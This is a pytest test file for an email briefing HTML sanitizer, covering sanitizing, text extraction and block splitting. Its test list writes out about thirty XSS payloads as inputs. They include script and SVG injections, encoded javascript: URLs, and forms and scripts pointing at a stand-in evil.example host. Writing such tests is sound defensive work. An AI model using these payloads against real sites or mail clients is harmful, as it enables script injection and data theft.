"""Tests for mailer.briefings.sanitize: hostile HTML in, email-safe HTML and text out."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from mailer.briefings.sanitize import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    HtmlBlock,
    html_blocks,
    html_to_text,
    sanitize_html,
)


class _Elements(HTMLParser):
    """Every start tag with its attributes, and any comment or declaration left over."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.other.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.other.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        self.other.append(f"declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        self.other.append(f"processing instruction {data!r}")


def assert_only_allowed_markup(html: str) -> None:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    assert parser.other == []
    for tag, attrs in parser.elements:
        assert tag in ALLOWED_TAGS, tag
        allowed = ALLOWED_ATTRIBUTES.get(tag, frozenset()) | ({"rel"} if tag == "a" else set())
        assert set(attrs) <= allowed, (tag, attrs)
        if tag == "a":
            assert attrs["rel"] == "noopener noreferrer"
            href = attrs.get("href")
            if href is not None:
                assert urlsplit(href.strip()).scheme.lower() in ALLOWED_URL_SCHEMES, href


# Each case: hostile input, strings that must be gone (checked case-insensitively in the
# HTML and in the text), and the harmless text that must survive.
HOSTILE: list[tuple[str, str, tuple[str, ...], str]] = [
    ("script", "<p>Safe<script>alert(1)</script> text</p>", ("script", "alert"), "Safe text"),
    (
        "script with src, upper case",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>Safe text",
        ("script", "evil"),
        "Safe text",
    ),
    (
        "style element",
        "<style>body { background: url(javascript:alert(1)) }</style>Safe text",
        ("style", "background", "javascript"),
        "Safe text",
    ),
    (
        "iframe and its fallback",
        '<iframe src="https://evil.example/">Your browser</iframe>Safe text',
        ("iframe", "evil", "browser"),
        "Safe text",
    ),
    (
        "form and inputs",
        '<form action="https://evil.example/steal"><input name="card" value="4111">'
        "<button>Pay now</button></form>Safe text",
        ("form", "input", "evil", "4111", "button", "pay now"),
        "Safe text",
    ),
    (
        "onerror on an image",
        '<p><img src="x" onerror="alert(1)">Safe text</p>',
        ("img", "onerror", "alert"),
        "Safe text",
    ),
    (
        "onclick and onmouseover",
        '<p onclick="alert(1)"><a href="https://ok.example/" onmouseover="alert(2)">'
        "Safe text</a></p>",
        ("onclick", "onmouseover", "alert"),
        "Safe text",
    ),
    (
        "tracking pixel",
        '<p>Safe text<img src="https://track.example/open.gif?u=1" width="1" height="1"></p>',
        ("img", "track", ".gif"),
        "Safe text",
    ),
    (
        "javascript: URL",
        '<a href="javascript:alert(1)">Safe text</a>',
        ("javascript", "alert", "href"),
        "Safe text",
    ),
    (
        "javascript: URL in mixed case, padded with spaces",
        '<a href="  JaVaScRiPt:alert(1)">Safe text</a>',
        ("javascript", "alert", "href"),
        "Safe text",
    ),
    (
        "javascript: URL with decimal entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">'
        "Safe text</a>",
        ("javascript", "alert", "href", "&#"),
        "Safe text",
    ),
    (
        "javascript: URL with hex entities and no semicolons",
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">Safe text</a>',
        ("javascript", "alert", "href", "&#"),
        "Safe text",
    ),
    (
        "javascript: URL split by an encoded tab and newline",
        '<a href="java&#x09;scr&#x0A;ipt:alert(1)">Safe text</a>',
        ("alert", "href", "script:"),
        "Safe text",
    ),
    (
        "javascript: URL behind a control character",
        '<a href="\x01javascript:alert(1)">Safe text</a>',
        ("javascript", "alert", "href"),
        "Safe text",
    ),
    (
        "vbscript: URL",
        '<a href="vbscript:msgbox(1)">Safe text</a>',
        ("vbscript", "msgbox", "href"),
        "Safe text",
    ),
    (
        "data: URL",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Safe text</a>',
        ("data:", "base64", "href"),
        "Safe text",
    ),
    (
        "data: URL in upper case",
        '<a href="DATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">Safe text</a>',
        ("data:", "script", "alert", "href"),
        "Safe text",
    ),
    (
        "svg with onload and a script inside",
        '<svg onload="alert(1)"><script>alert(2)</script><text>drawn</text></svg>Safe text',
        ("svg", "onload", "alert", "script"),
        "Safe text",
    ),
    (
        "math with a javascript link",
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>Safe text',
        ("math", "xlink", "javascript", "alert"),
        "Safe text",
    ),
    (
        "meta refresh",
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">Safe text',
        ("meta", "refresh", "evil"),
        "Safe text",
    ),
    (
        "base href",
        '<base href="https://evil.example/"><a href="https://ok.example/">Safe text</a>',
        ("base", "evil"),
        "Safe text",
    ),
    (
        "style attribute with expression()",
        '<p style="width: expression(alert(1)); background: url(javascript:x)">Safe text</p>',
        ("style", "expression", "alert", "javascript"),
        "Safe text",
    ),
    (
        "link and stylesheet import",
        '<link rel="stylesheet" href="https://evil.example/x.css">Safe text',
        ("stylesheet", "evil", "link"),
        "Safe text",
    ),
    (
        "nested script tags to rebuild one",
        "<scr<script>ipt>alert(1)</script>Safe text",
        ("<script", "<scr"),
        "Safe text",
    ),
    (
        "malformed nesting and unclosed tags",
        "<b><i>Safe</b> text</i><p><a href='https://ok.example/'>link",
        ("<i></b>",),
        "Safe text",
    ),
    (
        "attribute breaking out of its quotes",
        '<a href="https://ok.example/" title="x" onmouseover="alert(1)" "="">Safe text</a>',
        ("onmouseover", "alert"),
        "Safe text",
    ),
    (
        "comments, including conditional comments",
        "<p>Safe<!-- secret --> text<!--[if IE]><script>alert(1)</script><![endif]--></p>",
        ("secret", "<!--", "script", "alert"),
        "Safe text",
    ),
    (
        # Outside SVG and MathML a CDATA section is a bogus comment that ends at the first
        # ">": what follows is inert text, as in a browser, and no element.
        "CDATA section",
        "<![CDATA[<script>alert(1)</script>]]>Safe text",
        ("<script", "cdata", "<!"),
        "Safe text",
    ),
    (
        "CDATA inside SVG hiding a closing tag",
        "<svg><![CDATA[</svg><script>alert(1)</script>]]></svg>Safe text",
        ("<script", "cdata", "svg", "<!"),
        "Safe text",
    ),
    (
        "template and noscript content",
        "<template><p>hidden template</p></template><noscript><img src=x onerror=alert(1)>"
        "hidden fallback</noscript>Safe text",
        ("template", "noscript", "hidden", "onerror", "img"),
        "Safe text",
    ),
    (
        "object and embed",
        '<object data="x.swf"><param name="x" value="y">Plugin fallback</object>'
        '<embed src="y.swf">Safe text',
        ("object", "embed", "swf", "param", "fallback"),
        "Safe text",
    ),
    (
        "whole document with head",
        "<!DOCTYPE html><html><head><title>Page title</title>"
        "<script>alert(1)</script></head><body onload='alert(2)'><p>Safe text</p></body></html>",
        ("doctype", "title", "script", "alert", "onload", "body"),
        "Safe text",
    ),
    (
        "protocol-relative and relative links",
        '<a href="//evil.example/x">Safe</a> <a href="/local">text</a>',
        ("evil", "/local", "href"),
        "Safe text",
    ),
]


@pytest.mark.parametrize(
    ("hostile", "gone", "kept"),
    [pytest.param(html, gone, kept, id=name) for name, html, gone, kept in HOSTILE],
)
def test_hostile_html_is_defused_and_text_kept(
    hostile: str, gone: tuple[str, ...], kept: str
) -> None:
    clean = sanitize_html(hostile)
    text = html_to_text(hostile)

    assert_only_allowed_markup(clean)
    for bad in gone:
        assert bad.lower() not in clean.lower(), bad
        assert bad.lower() not in text.lower(), bad
    assert kept in text
    assert kept in html_to_text(clean)


def test_battery_is_big_enough() -> None:
    assert len(HOSTILE) >= 15


def test_allowed_markup_survives() -> None:
    fragment = (
        '<p>A <a href="https://news.example.org/x?a=1&amp;b=2" title="More">link</a>, '
        "<em>em</em>, <i>i</i>, <strong>strong</strong>, <b>b</b>,<br>"
        '<a href="mailto:desk@example.org">mail</a></p>'
        "<ul><li>one</li></ul><ol><li>two</li></ol>"
    )

    assert sanitize_html(fragment) == (
        '<p>A <a href="https://news.example.org/x?a=1&amp;b=2" title="More" '
        'rel="noopener noreferrer">link</a>, <em>em</em>, <i>i</i>, <strong>strong</strong>, '
        '<b>b</b>,<br><a href="mailto:desk@example.org" rel="noopener noreferrer">mail</a></p>'
        "<ul><li>one</li></ul><ol><li>two</li></ol>"
    )


def test_links_get_rel_replacing_their_own() -> None:
    clean = sanitize_html('<a href="https://ok.example/" rel="opener" target="_blank">x</a>')

    assert clean == '<a href="https://ok.example/" rel="noopener noreferrer">x</a>'


def test_unknown_tags_are_unwrapped_not_emptied() -> None:
    clean = sanitize_html('<span class="x"><u>Under</u> <font color=red>lined</font></span>')

    assert clean == "Under lined"


def test_sanitize_is_idempotent() -> None:
    once = sanitize_html(
        '<p>A <a href="https://ok.example/?q=&quot;x&quot;">b</a> &amp; &lt;c&gt;</p>'
    )

    assert sanitize_html(once) == once


def test_text_that_looks_like_markup_stays_escaped() -> None:
    assert sanitize_html("5 &lt; 6 &amp;&amp; &lt;b&gt;x&lt;/b&gt;") == (
        "5 &lt; 6 &amp;&amp; &lt;b&gt;x&lt;/b&gt;"
    )


# --- html_to_text -----------------------------------------------------------------------


def test_text_decodes_entities_and_collapses_whitespace() -> None:
    text = html_to_text("<p>What&rsquo;s   going\n on &amp; <em>why</em>&hellip;</p>")

    assert text == "What\u2019s going on & why\u2026"


def test_text_keeps_no_break_spaces() -> None:
    assert html_to_text("<p>9&nbsp;a.m.</p>") == "9\u00a0a.m."


def test_text_list_items_are_bulleted_lines() -> None:
    text = html_to_text(
        "<p>Before:</p><ul>\n<li>one</li>\n<li> two <b>bold</b></li><li>three<ol>"
        "<li>nested</li></ol></li></ul><p>After.</p>"
    )

    assert text == "Before:\n\n• one\n• two bold\n• three\n• nested\n\nAfter."


def test_text_line_breaks_and_blocks() -> None:
    assert html_to_text("a<br>b<br/>c<p>d</p><div>e</div>") == "a\nb\nc\n\nd\n\ne"


def test_text_of_markup_characters_is_plain() -> None:
    assert html_to_text("&lt;script&gt;x&lt;/script&gt;") == "<script>x</script>"


def test_text_drops_control_characters() -> None:
    assert html_to_text("a\x01b\x00c") == "abc"


# --- html_blocks ------------------------------------------------------------------------


def test_blocks_from_block_elements() -> None:
    blocks = html_blocks(
        "<h2>Heading</h2><p>One <strong>bold</strong>.</p><div>Two</div>"
        "<blockquote><p>Quoted</p></blockquote><p>&nbsp;</p><p>  </p>"
    )

    assert [b.html for b in blocks] == ["Heading", "One <strong>bold</strong>.", "Two", "Quoted"]


def test_blocks_split_on_double_line_break_only() -> None:
    blocks = html_blocks("Lead text<br>\n<br>Second<br>still second<br> <br/>Third")

    assert [b.html for b in blocks] == ["Lead text", "Second<br>still second", "Third"]


def test_a_list_is_one_block() -> None:
    blocks = html_blocks(
        "<p>Intro</p><ul>\n<li><p>one</p><p>more</p></li>\n<li>two</li></ul><p>After</p>"
    )

    assert [b.html for b in blocks] == [
        "Intro",
        "<ul><li>one more</li><li>two</li></ul>",
        "After",
    ]


def test_blocks_carry_classes_of_their_ancestors() -> None:
    blocks = html_blocks(
        '<div class="article__paywall"><p class="note">Log in</p></div><p>Story</p>'
    )

    assert blocks == [
        HtmlBlock("Log in", "Log in", "article__paywall note"),
        HtmlBlock("Story", "Story", ""),
    ]


def test_blocks_are_sanitized() -> None:
    (block,) = html_blocks(
        '<p class="x" onclick="y">Hi <a href="javascript:z()">there</a><script>q</script></p>'
    )

    assert block == HtmlBlock('Hi <a rel="noopener noreferrer">there</a>', "Hi there", "x")


def test_horizontal_rule_separates_blocks() -> None:
    assert [b.html for b in html_blocks("one<hr>two")] == ["one", "two"]


def test_no_blocks_in_empty_or_invisible_input() -> None:
    assert html_blocks("") == []
    assert html_blocks("<script>x</script><p><br></p><img src=x>") == []
